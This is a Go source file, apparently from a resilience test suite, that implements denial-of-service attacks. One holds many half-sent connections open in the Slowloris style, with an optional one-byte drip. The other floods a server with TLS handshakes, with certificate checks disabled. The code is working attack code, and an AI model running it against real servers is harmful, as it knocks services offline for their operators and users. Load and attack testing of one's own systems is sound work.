package main

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"time"
)

// hold opens connections, sends what is no whole request, and holds each until the server closes it. Then it opens another one.
type hold struct {
	// connections are those to each target.
	connections int
	// addresses are how many they come from, or 0 for the one of the pod.
	addresses int
	encrypted bool
	text      string
	// drip sends one more byte a second, so that the client is never idle.
	drip bool
}

func (h hold) run(ctx context.Context, targets []string, came *outcome) {
	again(ctx, targets, h.connections, func(target string, i int) {
		conn, err := connect(ctx, target, h.from(i, target), h.encrypted)
		if err != nil {
			came.note("not connected")
			pause(ctx)
			return
		}
		came.note("connected")
		stop := context.AfterFunc(ctx, func() { _ = conn.Close() }) // the end of the attack
		h.send(ctx, conn)
		stop()
		_ = conn.Close() // the server has closed it, or the attack has ended
	})
}

// send returns when the connection is closed.
func (h hold) send(ctx context.Context, conn net.Conn) {
	if _, err := io.WriteString(conn, h.text); err != nil {
		return
	}
	for h.drip && ctx.Err() == nil {
		if _, err := conn.Write([]byte("a")); err != nil {
			return
		}
		select {
		case <-ctx.Done():
		case <-time.After(time.Second):
		}
	}
	_, _ = io.Copy(io.Discard, conn) // until it is closed
}

// from is the address of a connection, of the family of the target: one of those that the suite gives the node.
func (h hold) from(i int, target string) string {
	switch at, err := netip.ParseAddrPort(target); {
	case h.addresses == 0:
		return ""
	case err == nil && at.Addr().Is6():
		return fmt.Sprintf("fd00:10:245:%x::1", 1+i%h.addresses)
	}
	return fmt.Sprintf("10.245.0.%d", 1+i%h.addresses)
}

func connect(ctx context.Context, target, from string, encrypted bool) (net.Conn, error) {
	dialer := &net.Dialer{Timeout: 10 * time.Second}
	if from != "" {
		dialer.LocalAddr = &net.TCPAddr{IP: net.ParseIP(from)}
	}
	conn, err := dialer.DialContext(ctx, "tcp", target)
	if err != nil || !encrypted {
		return conn, err
	}
	secure := tls.Client(conn, &tls.Config{InsecureSkipVerify: true}) //nolint:gosec // an attacker does not care
	if err := secure.HandshakeContext(ctx); err != nil {
		return nil, errors.Join(err, conn.Close())
	}
	return secure, nil
}

// pause keeps an attacker from spending all of its time on connections that it does not get.
func pause(ctx context.Context) {
	select {
	case <-ctx.Done():
	case <-time.After(20 * time.Millisecond):
	}
}

// handshakes makes the server compute, and leaves.
type handshakes struct {
	workers int
}

func (h handshakes) run(ctx context.Context, targets []string, came *outcome) {
	again(ctx, targets, h.workers, func(target string, _ int) {
		conn, err := connect(ctx, target, "", true)
		if err != nil {
			came.note("not connected")
			pause(ctx)
			return
		}
		came.note("connected")
		_ = conn.Close() // nothing was sent
	})
}
